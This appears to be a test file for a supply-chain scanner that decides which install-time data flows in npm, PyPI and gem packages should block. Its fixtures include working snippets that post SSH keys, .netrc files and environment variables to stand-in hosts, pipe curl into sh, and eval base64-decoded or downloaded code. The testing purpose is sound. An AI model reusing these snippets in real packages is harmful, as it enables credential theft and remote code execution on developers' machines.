"""Flows that are proven from end to end block; what is not proven, waits for somebody, or has an owner does not."""

import base64

import pytest

from pratique.analysis.job import Done
from pratique.core.finding import Confidence, Finding, Severity
from tests.analysis.inspecting import gem, npm, package_json, wheel

NOBODYS, FEW, VENDOR = "45.9.1.7", "drop.example-cdn.io", "github.com"
RELEASE = f"https://{VENDOR}/acme/tool/releases/download/v1/tool"
MODULE = {"npm": "index.js", "pypi": "sample/__init__.py", "gem": "lib/sample.rb"}


def made(ecosystem: str, code: str, *, hook: bool = False) -> Done:
    """Inspect a release whose entry point, or hook, is the code."""
    if ecosystem == "npm":
        manifest = package_json(scripts={"postinstall": "node index.js"} if hook else {})
        return npm({"package.json": manifest, "index.js": code})
    return (wheel if ecosystem == "pypi" else gem)({MODULE[ecosystem]: code})


def blocking(done: Done) -> list[Finding]:
    assert () == done.inspection.failed
    return [
        finding
        for finding in done.inspection.findings
        if (finding.severity, finding.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    ]


def packed(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


JS_SAVED = (
    "const c = require('child_process'), fs = require('fs');\n"
    "async function main() {{\n"
    "  const r = await fetch('{}');\n"
    "  fs.writeFileSync('/tmp/tool', await r.text());\n"
    "  c.execFileSync('/tmp/tool');\n"
    "}}\nmain();\n"
)
PY_SAVED = (
    "import requests, subprocess\n"
    "open('/tmp/tool', 'wb').write(requests.get('{}').content)\n"
    "subprocess.run(['/tmp/tool'])\n"
)
RB_SAVED = "require 'open-uri'\nFile.write('/tmp/tool', URI.open('{}').read)\nsystem('/tmp/tool')\n"
JS_SENT = "const fs = require('fs');\nfetch('https://{}/x', {{method: 'POST', body: {}}});\n"
PY_SENT = "import os, requests\nrequests.post('https://{}/x', data={})\n"
RB_SENT = "require 'net/http'\nNet::HTTP.post(URI('https://{}/x'), {})\n"

PROVEN = {
    ("npm", "a", "credentials"): JS_SENT.format(FEW, "fs.readFileSync('/root/.ssh/id_rsa')"),
    ("npm", "a", "environment"): JS_SENT.format(FEW, "JSON.stringify(process.env)"),
    ("npm", "a", "private file"): JS_SENT.format(NOBODYS, "fs.readFileSync('/root/notes.txt')"),
    ("pypi", "a", "credentials"): PY_SENT.format(FEW, "open('/root/.ssh/id_rsa').read()"),
    ("pypi", "a", "environment"): PY_SENT.format(FEW, "dict(os.environ)"),
    ("pypi", "a", "private file"): PY_SENT.format(NOBODYS, "open('/root/notes.txt').read()"),
    ("gem", "a", "environment"): RB_SENT.format(FEW, "ENV.to_h.to_s"),
    ("gem", "a", "private file"): RB_SENT.format(NOBODYS, "File.read('/root/.ssh/id_rsa')"),
    ("npm", "b", "code"): f"fetch('https://{NOBODYS}/x').then(r => r.text()).then(eval);\n",
    ("npm", "b", "program"): JS_SAVED.format(f"https://{NOBODYS}/x"),
    ("npm", "b", "shell"): f"require('child_process').execSync('curl -s https://{NOBODYS}/x | sh');\n",
    ("pypi", "b", "code"): f"import requests\nexec(requests.get('https://{NOBODYS}/x').text)\n",
    ("pypi", "b", "program"): PY_SAVED.format(f"https://{NOBODYS}/x"),
    ("pypi", "b", "shell"): f"import os\nos.system('curl -s https://{NOBODYS}/x | sh')\n",
    ("gem", "b", "code"): f"require 'net/http'\neval(Net::HTTP.get(URI('https://{NOBODYS}/x')))\n",
    ("gem", "b", "shell"): f"system('curl -s https://{NOBODYS}/x | sh')\n",
    ("npm", "c", "constant"): "eval(Buffer.from('{}', 'base64').toString());\n".format(
        packed(f"fetch('https://{FEW}/x').then(r => r.text()).then(console.log)")
    ),
    ("pypi", "c", "constant"): "import base64\nexec(base64.b64decode('{}'))\n".format(
        packed(f"import requests\nrequests.get('https://{FEW}/x')")
    ),
    ("gem", "c", "constant"): "require 'base64'\neval(Base64.decode64('{}'))\n".format(
        packed(f"require 'net/http'\nNet::HTTP.get(URI('https://{FEW}/x'))")
    ),
    ("npm", "c", "download"): (
        f"fetch('https://{FEW}/x').then(r => r.text()).then(t => eval(Buffer.from(t, 'base64').toString()));\n"
    ),
    ("pypi", "c", "download"): (
        f"import base64, requests\nexec(base64.b64decode(requests.get('https://{FEW}/x').text))\n"
    ),
    ("gem", "c", "download"): (
        f"require 'net/http'\nrequire 'base64'\neval(Base64.decode64(Net::HTTP.get(URI('https://{FEW}/x'))))\n"
    ),
}


@pytest.mark.parametrize("cell", sorted(PROVEN), ids="-".join)
def test_a_proven_flow_blocks_and_names_source_sink_host_and_lines(cell: tuple[str, str, str]) -> None:
    ecosystem, letter, _ = cell
    (message, *_) = [f.message for f in blocking(made(ecosystem, PROVEN[cell])) if "proven" in f.message]
    proof = message.partition("proven flow: ")[2]
    starts = {"a": ("credentials", "the whole", "a file"), "b": ("download",), "c": ("decoded", "download")}
    assert proof.startswith(starts[letter])
    assert 2 == proof.count(f"({MODULE[ecosystem]}:")
    assert (NOBODYS if NOBODYS in PROVEN[cell] else FEW) in proof


SELLS = f"https://{FEW}/tool"
LATER = "fetch('https://45.9.1.7/x', {method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa')})"
OTHERS = {
    ("npm", "fetches its release from a code host"): JS_SAVED.format(RELEASE),
    ("pypi", "fetches its release from a code host"): PY_SAVED.format(RELEASE),
    ("gem", "fetches its release from a code host"): RB_SAVED.format(RELEASE),
    ("npm", "fetches its program from a domain of its own"): JS_SAVED.format(SELLS),
    ("pypi", "fetches its program from a domain of its own"): PY_SAVED.format(SELLS),
    ("gem", "fetches its program from a domain of its own"): RB_SAVED.format(SELLS),
    ("npm", "sends a token that it is given"): JS_SENT.format(FEW, "process.env.ACME_TOKEN"),
    ("pypi", "sends a token that it is given"): PY_SENT.format(FEW, "os.environ['ACME_TOKEN']"),
    ("gem", "sends a token that it is given"): RB_SENT.format(FEW, "ENV['ACME_TOKEN']"),
    ("npm", "sends what machine it is"): JS_SENT.format(FEW, "require('os').platform()"),
    ("pypi", "sends what machine it is"): PY_SENT.format(FEW, "os.uname().sysname"),
    ("npm", "decodes code that asks nobody"): "eval(Buffer.from('{}', 'base64').toString());\n".format(
        packed("module.exports = function () { return 2; }; console.log(1 + 1)")
    ),
    ("pypi", "decodes code that asks nobody"): "import base64\nexec(base64.b64decode('{}'))\n".format(
        packed("def two():\n    return 2\nprint(two())")
    ),
    ("gem", "decodes code that asks nobody"): "require 'base64'\neval(Base64.decode64('{}'))\n".format(
        packed("def two\n  2\nend\nputs two")
    ),
    ("npm", "waits for a caller"): f"const fs = require('fs');\nexports.f = () => {LATER};\n",
    ("npm", "listens to a window"): (
        "const fs = require('fs'), {ipcMain} = require('electron');\n"
        f"function send() {{ {LATER}; }}\nipcMain.on('x', () => send());\n"
    ),
    ("npm", "listens to an emitter"): (
        f"const fs = require('fs'), bus = require('./bus');\nbus.on('x', function () {{ {LATER}; }});\n"
    ),
    ("pypi", "waits for a caller"): "import requests\ndef f():\n    requests.post('https://45.9.1.7/x', data=open('/root/.netrc').read())\n",
    ("pypi", "waits for a click"): (
        "import requests\n"
        "button.clicked.connect(lambda: requests.post('https://45.9.1.7/x', data=open('/root/.netrc').read()))\n"
    ),
    ("gem", "waits for a caller"): (
        "require 'net/http'\ndef f\n  Net::HTTP.post(URI('https://45.9.1.7/x'), File.read('/root/.netrc'))\nend\n"
    ),
    ("npm", "asks the page's own host"): "fetch('settings.json', {method: 'POST', body: JSON.stringify(process.env)});\n",
    ("npm", "asks an address that is not constant"): (
        "const fs = require('fs');\n"
        "fetch(require('./settings').address, {method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa')});\n"
    ),
}  # fmt: skip


@pytest.mark.parametrize("cell", sorted(OTHERS), ids="-".join)
def test_what_is_not_proven_does_not_block(cell: tuple[str, str]) -> None:
    assert [] == blocking(made(cell[0], OTHERS[cell]))


@pytest.mark.parametrize(
    "heard", ["process.on('exit', ", "require('http').get('http://a.invalid').on('close', "]
)
def test_what_makes_events_by_itself_is_no_wait(heard: str) -> None:
    code = f"const fs = require('fs');\n{heard}() => {LATER});\n"
    assert [f.message for f in blocking(made("npm", code, hook=True)) if "proven" in f.message]


def test_a_claim_of_the_manifest_excuses_nothing() -> None:
    manifest = package_json(homepage=f"https://{FEW}", scripts={"postinstall": "node index.js"})
    code = PROVEN["npm", "a", "credentials"]
    assert blocking(npm({"package.json": manifest, "index.js": code}))


def test_what_the_baseline_does_too_is_a_note() -> None:
    files = {"index.js": PROVEN["npm", "a", "environment"]}
    assert [] == blocking(npm(files, files))
